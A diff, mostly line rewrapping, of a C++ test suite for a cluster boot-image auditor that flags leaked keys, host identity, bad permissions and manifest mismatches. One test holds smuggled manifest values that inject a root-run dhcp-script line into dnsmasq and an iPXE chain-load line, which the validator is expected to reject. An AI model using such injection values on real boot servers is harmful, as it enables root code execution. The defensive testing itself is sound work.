@@ -36,7 +36,9 @@ RootfsEntry file(const std::string& path, std::uint64_t size = 0, unsigned mode 
   return {path, RootfsEntry::Type::file, mode, 0, 0, size};
 }
 
-RootfsEntry dir(const std::string& path, unsigned mode = 0755) { return {path, RootfsEntry::Type::directory, mode, 0, 0, 0}; }
+RootfsEntry dir(const std::string& path, unsigned mode = 0755) {
+  return {path, RootfsEntry::Type::directory, mode, 0, 0, 0};
+}
 
 }  // namespace
 
@@ -79,33 +81,36 @@ TEST_CASE("each hygiene rule, read as what must not be in an image") {
   rules.add("r", dir("/etc/systemd/system/multi-user.target.wants"));
   rules.add("r", {"/etc/systemd/system/multi-user.target.wants/e2scrub_reap.service", RootfsEntry::Type::symlink, 0777,
                   0, 0, 0});
-  CHECK(lines("out/x", rules.findings()) ==
-        std::vector<std::string>{
-            "out/x/r: /etc/hostname: present (the build host's name; nodes get theirs from the node overlay)",
-            "out/x/r: /etc/machine-id: not empty (33 bytes) (systemd generates one per node at boot when it is empty)",
-            "out/x/r: /etc/munge/munge.key: present (the cluster's munge key (munge makes one when installed): "
-            "whoever holds it can act as any user of the cluster; it is delivered per cluster, never in a shared image)",
-            "out/x/r: /etc/nvme/hostid: present (nvme-cli's install writes a random one every node would share)",
-            "out/x/r: /etc/nvme/hostnqn: present (likewise: NVMe-oF targets tell hosts apart by it)",
-            "out/x/r: /etc/railyard/node.toml: present (a node's identity belongs in its own overlay, not in the image all nodes boot)",
-            "out/x/r: /etc/resolv.conf: present (the build host's resolvers)",
-            "out/x/r: /etc/ssh/ssh_host_rsa_key: present (host keys are generated per node at first boot)",
-            "out/x/r: /etc/systemd/system/multi-user.target.wants/e2scrub_reap.service: present (removes ext4 scrub "
-            "snapshots of volumes a stateless node does not have)",
-            "out/x/r: /etc/systemd/system/timers.target.wants/apt-daily-upgrade.timer: present (upgrades packages in a root "
-            "that the next boot discards)",
-            "out/x/r: /etc/systemd/system/timers.target.wants/apt-daily.timer: present (refreshes package lists on a "
-            "node that never installs a package)",
-            "out/x/r: /etc/systemd/system/timers.target.wants/e2scrub_all.timer: present (scrubs ext4 volumes a "
-            "stateless node does not have)",
-            "out/x/r: /etc/systemd/system/timers.target.wants/fstrim.timer: present (trims filesystems a stateless "
-            "node does not have)",
-            "out/x/r: /tmp/a: present (leftovers of the build)",
-            "out/x/r: /var/cache/apt/pkgcache.bin: present (apt's caches, rebuilt on demand)",
-            "out/x/r: /var/lib/apt/lists/partial: present (package indexes: large, and they date the build)",
-            "out/x/r: /var/log/apt/history.log: a file below /var/log (logs of the build, with its timestamps)",
-            "out/x/r: /var/log/lastlog: a file below /var/log (logs of the build, with its timestamps)",
-        });
+  CHECK(
+      lines("out/x", rules.findings()) ==
+      std::vector<std::string>{
+          "out/x/r: /etc/hostname: present (the build host's name; nodes get theirs from the node overlay)",
+          "out/x/r: /etc/machine-id: not empty (33 bytes) (systemd generates one per node at boot when it is empty)",
+          "out/x/r: /etc/munge/munge.key: present (the cluster's munge key (munge makes one when installed): "
+          "whoever holds it can act as any user of the cluster; it is delivered per cluster, never in a shared image)",
+          "out/x/r: /etc/nvme/hostid: present (nvme-cli's install writes a random one every node would share)",
+          "out/x/r: /etc/nvme/hostnqn: present (likewise: NVMe-oF targets tell hosts apart by it)",
+          "out/x/r: /etc/railyard/node.toml: present (a node's identity belongs in its own overlay, not in the image "
+          "all nodes boot)",
+          "out/x/r: /etc/resolv.conf: present (the build host's resolvers)",
+          "out/x/r: /etc/ssh/ssh_host_rsa_key: present (host keys are generated per node at first boot)",
+          "out/x/r: /etc/systemd/system/multi-user.target.wants/e2scrub_reap.service: present (removes ext4 scrub "
+          "snapshots of volumes a stateless node does not have)",
+          "out/x/r: /etc/systemd/system/timers.target.wants/apt-daily-upgrade.timer: present (upgrades packages in a "
+          "root "
+          "that the next boot discards)",
+          "out/x/r: /etc/systemd/system/timers.target.wants/apt-daily.timer: present (refreshes package lists on a "
+          "node that never installs a package)",
+          "out/x/r: /etc/systemd/system/timers.target.wants/e2scrub_all.timer: present (scrubs ext4 volumes a "
+          "stateless node does not have)",
+          "out/x/r: /etc/systemd/system/timers.target.wants/fstrim.timer: present (trims filesystems a stateless "
+          "node does not have)",
+          "out/x/r: /tmp/a: present (leftovers of the build)",
+          "out/x/r: /var/cache/apt/pkgcache.bin: present (apt's caches, rebuilt on demand)",
+          "out/x/r: /var/lib/apt/lists/partial: present (package indexes: large, and they date the build)",
+          "out/x/r: /var/log/apt/history.log: a file below /var/log (logs of the build, with its timestamps)",
+          "out/x/r: /var/log/lastlog: a file below /var/log (logs of the build, with its timestamps)",
+      });
 }
 
 TEST_CASE("a later part replaces an entry of an earlier one, as the kernel unpacks them") {
@@ -114,7 +119,8 @@ TEST_CASE("a later part replaces an entry of an earlier one, as the kernel unpac
   rules.add("rootfs-01.cpio.zst", file("/etc/machine-id", 0));
   rules.add("rootfs-00.cpio.zst", file("/etc/motd", 10, 0666));
   CHECK(lines("d", rules.findings()) ==
-        std::vector<std::string>{"d/rootfs-00.cpio.zst: /etc/motd: writable by every user (mode 0666) (any process on any node can change it)"});
+        std::vector<std::string>{"d/rootfs-00.cpio.zst: /etc/motd: writable by every user (mode 0666) (any process on "
+                                 "any node can change it)"});
 }
 
 TEST_CASE("owners must be accounts of the image; world-writable only with the sticky bit") {
@@ -128,15 +134,17 @@ TEST_CASE("owners must be accounts of the image; world-writable only with the st
   rules.add("r", {"/usr/bin/x", RootfsEntry::Type::symlink, 0777, 0, 0, 0});
   CHECK(lines("d", rules.findings()) ==
         std::vector<std::string>{
-            "d/r: /home/builder/.cache: owned by uid 1000, which is not in the image's /etc/passwd (a build host's account leaked in; on a node it is whoever gets that id)",
-            "d/r: /home/builder/.cache: owned by gid 1000, which is not in the image's /etc/group (a build host's account leaked in; on a node it is whoever gets that id)",
+            "d/r: /home/builder/.cache: owned by uid 1000, which is not in the image's /etc/passwd (a build host's "
+            "account leaked in; on a node it is whoever gets that id)",
+            "d/r: /home/builder/.cache: owned by gid 1000, which is not in the image's /etc/group (a build host's "
+            "account leaked in; on a node it is whoever gets that id)",
             "d/r: /srv/drop: writable by every user (mode 0777) (any process on any node can change it)",
         });
   RootfsRules without;
   without.add("r", {"/opt/x", RootfsEntry::Type::file, 0644, 5, 0, 1});
   CHECK(lines("d", without.findings()) ==
-        std::vector<std::string>{
-            "d/r: /opt/x: owned by uid 5, which cannot be checked: no /etc/passwd (a build host's account leaked in; on a node it is whoever gets that id)"});
+        std::vector<std::string>{"d/r: /opt/x: owned by uid 5, which cannot be checked: no /etc/passwd (a build host's "
+                                 "account leaked in; on a node it is whoever gets that id)"});
 }
 
 TEST_CASE("a clean image has no findings") {
@@ -162,7 +170,8 @@ TEST_CASE("a lab stand-in is named, never silently carried") {
   REQUIRE(r->lab_stand_ins.size() == 1);
   CHECK(r->lab_stand_ins[0].name == "railyard-lab-qos");
   CHECK(r->lab_stand_ins[0].emulates == std::vector<std::string>{"dcb"});
-  CHECK(r->lab_stand_ins[0].files == std::vector<std::string>{"/usr/lib/modules/6.1.0-28-amd64/updates/dkms/railyard_lab_qos.ko"});
+  CHECK(r->lab_stand_ins[0].files ==
+        std::vector<std::string>{"/usr/lib/modules/6.1.0-28-amd64/updates/dkms/railyard_lab_qos.ko"});
 
   TestImageOptions hidden;
   hidden.parts = {rootfs};
@@ -208,7 +217,7 @@ TEST_CASE("a dirty image: artifacts that differ from the manifest, and a root fi
   };
   opt.parts = {clean_rootfs(), second};
   make_test_image(tmp, "img", opt);
-  tmp.write("img/vmlinuz", "MZ");                        // truncated
+  tmp.write("img/vmlinuz", "MZ");                              // truncated
   tmp.write("img/rootfs-02.cpio.zst", "from an older build");  // listed nowhere
   std::string ipxe = read_all(tmp / "img/boot.ipxe");
   ipxe[0] = '!';
@@ -222,12 +231,18 @@ TEST_CASE("a dirty image: artifacts that differ from the manifest, and a root fi
                        " (truncated or replaced after the build)",
                    d + "/boot.ipxe: sha256 " + boot_sha + ", manifest.json says " + m->artifact("boot.ipxe")->sha256 +
                        " (changed after the build)",
-                   d + "/rootfs-02.cpio.zst: not listed in manifest.json (no digest vouches for it; left over from another build?)",
-                   d + "/rootfs-01.cpio.zst: /etc/machine-id: not empty (33 bytes) (systemd generates one per node at boot when it is empty)",
-                   d + "/rootfs-01.cpio.zst: /etc/ssh/ssh_host_ed25519_key: present (host keys are generated per node at first boot)",
-                   d + "/rootfs-01.cpio.zst: /home/builder/notes: owned by uid 1000, which is not in the image's /etc/passwd (a build host's account leaked in; on a node it is whoever gets that id)",
-                   d + "/rootfs-01.cpio.zst: /home/builder/notes: owned by gid 1000, which is not in the image's /etc/group (a build host's account leaked in; on a node it is whoever gets that id)",
-                   d + "/rootfs-01.cpio.zst: /var/lib/apt/lists/deb_dists_bookworm_InRelease: present (package indexes: large, and they date the build)",
+                   d + "/rootfs-02.cpio.zst: not listed in manifest.json (no digest vouches for it; left over from "
+                       "another build?)",
+                   d + "/rootfs-01.cpio.zst: /etc/machine-id: not empty (33 bytes) (systemd generates one per node at "
+                       "boot when it is empty)",
+                   d + "/rootfs-01.cpio.zst: /etc/ssh/ssh_host_ed25519_key: present (host keys are generated per node "
+                       "at first boot)",
+                   d + "/rootfs-01.cpio.zst: /home/builder/notes: owned by uid 1000, which is not in the image's "
+                       "/etc/passwd (a build host's account leaked in; on a node it is whoever gets that id)",
+                   d + "/rootfs-01.cpio.zst: /home/builder/notes: owned by gid 1000, which is not in the image's "
+                       "/etc/group (a build host's account leaked in; on a node it is whoever gets that id)",
+                   d + "/rootfs-01.cpio.zst: /var/lib/apt/lists/deb_dists_bookworm_InRelease: present (package "
+                       "indexes: large, and they date the build)",
                });
 }
 
@@ -244,10 +259,11 @@ TEST_CASE("missing parts, broken archives and other formats are findings") {
   CHECK(got[1].find("(the kernel would stop unpacking there)") != std::string::npos);
 
   tmp.write("img/rootfs.cpio.zst", "");
-  CHECK(audit_lines(d) == std::vector<std::string>{
-                              d + "/rootfs.cpio.zst: size 0 bytes, manifest.json says " + std::to_string(whole.size()) +
-                                  " (truncated or replaced after the build)",
-                              d + "/rootfs.cpio.zst: unreadable after 0 entries: Unrecognized archive format (the kernel would stop unpacking there)"});
+  CHECK(audit_lines(d) ==
+        std::vector<std::string>{d + "/rootfs.cpio.zst: size 0 bytes, manifest.json says " +
+                                     std::to_string(whole.size()) + " (truncated or replaced after the build)",
+                                 d + "/rootfs.cpio.zst: unreadable after 0 entries: Unrecognized archive format (the "
+                                     "kernel would stop unpacking there)"});
 
   fs::remove(d + "/rootfs.cpio.zst");
   CHECK(audit_lines(d) == std::vector<std::string>{d + "/rootfs.cpio.zst: missing (listed in manifest.json)"});
@@ -267,7 +283,8 @@ TEST_CASE("missing parts, broken archives and other formats are findings") {
   archive_write_free(a);
   got = audit_lines(d);
   REQUIRE(got.size() == 2);  // its size differs too
-  CHECK(got[1] == d + "/rootfs.cpio.zst: is ASCII cpio (SVR4 with no CRC) compressed with gzip (images are zstd-compressed newc cpio, "
+  CHECK(got[1] == d + "/rootfs.cpio.zst: is ASCII cpio (SVR4 with no CRC) compressed with gzip (images are "
+                      "zstd-compressed newc cpio, "
                       "the initramfs format the kernel unpacks)");
 }
 
@@ -280,7 +297,7 @@ TEST_CASE("bad input: no directory, no manifest, an invalid manifest") {
   r = audit_image(tmp / "empty");
   REQUIRE_FALSE(r.ok());
   CHECK(r.error() == tmp / "empty/manifest.json" +
-                       ": cannot be read: No such file or directory (is it an image directory's manifest.json?)");
+                         ": cannot be read: No such file or directory (is it an image directory's manifest.json?)");
   tmp.write("bad/manifest.json", "{\"schema\": 1}");
   r = audit_image(tmp / "bad");
   REQUIRE_FALSE(r.ok());
@@ -301,9 +318,10 @@ TEST_CASE("a manifest whose values would inject lines into dnsmasq or iPXE is re
   // "qemu-virt\ndhcp-script=/srv/evil.sh\n#": a dhcp-script= line dnsmasq would run as root.
   auto name = with("\"name\": \"" + m.recipe_name + "\"", "\"name\": \"qemu-virt\\ndhcp-script=/srv/evil.sh\\n#\"");
   REQUIRE_FALSE(name.ok());
-  CHECK(name.error() == tmp / "evil/manifest.json" +
-                            ": recipe.name: 'qemu-virt\\x0adhcp-script=/srv/evil.sh\\x0a#' holds a control character (\\x0a); "
-                            "no manifest value may");
+  CHECK(name.error() ==
+        tmp / "evil/manifest.json" +
+            ": recipe.name: 'qemu-virt\\x0adhcp-script=/srv/evil.sh\\x0a#' holds a control character (\\x0a); "
+            "no manifest value may");
   auto kernel = with("\"version\": \"" + m.kernel_version + "\"", "\"version\": \"6.1\\nchain http://10.0.2.2/x\"");
   REQUIRE_FALSE(kernel.ok());
   CHECK(kernel.error().find(": kernel.version: '6.1\\x0achain http://10.0.2.2/x' holds a control character") !=
@@ -360,7 +378,8 @@ TEST_CASE("join gate: audit fails an image whose join unit lacks the gate, or wh
   TestImageOptions opt;
   auto rootfs = gated_rootfs({"slurmd.service"});
   std::erase_if(rootfs, [](const ArchiveEntry& e) { return e.path.ends_with("99-railyard-gate.conf"); });
-  rootfs.push_back({"etc/railyard/recipe.toml", image_recipe({"slurmd.service", "kubelet.service"})});  // a later entry wins
+  rootfs.push_back(
+      {"etc/railyard/recipe.toml", image_recipe({"slurmd.service", "kubelet.service"})});  // a later entry wins
   opt.parts = {rootfs};
   make_test_image(tmp, "img", opt);
   std::string d = tmp / "img";
@@ -433,8 +452,8 @@ TEST_CASE("the audit flags a generator a root in RAM never needs that the image 
     return RootfsEntry{"/usr/lib/systemd/system-generators/" + name, RootfsEntry::Type::file, 0755, 0, 0, 100};
   };
   RootfsRules rules;
-  for (const char* g : {"systemd-gpt-auto-generator", "systemd-hibernate-resume-generator", "systemd-cryptsetup-generator",
-                        "systemd-integritysetup-generator", "systemd-getty-generator"})
+  for (const char* g : {"systemd-gpt-auto-generator", "systemd-hibernate-resume-generator",
+                        "systemd-cryptsetup-generator", "systemd-integritysetup-generator", "systemd-getty-generator"})
     rules.add("rootfs.cpio.zst", gen(g));
   rules.add("rootfs.cpio.zst", link("/etc/systemd/system-generators/systemd-gpt-auto-generator", "/dev/null"));
   rules.add("rootfs.cpio.zst", link("/etc/systemd/system-generators/systemd-hibernate-resume-generator", "/tmp/x"));
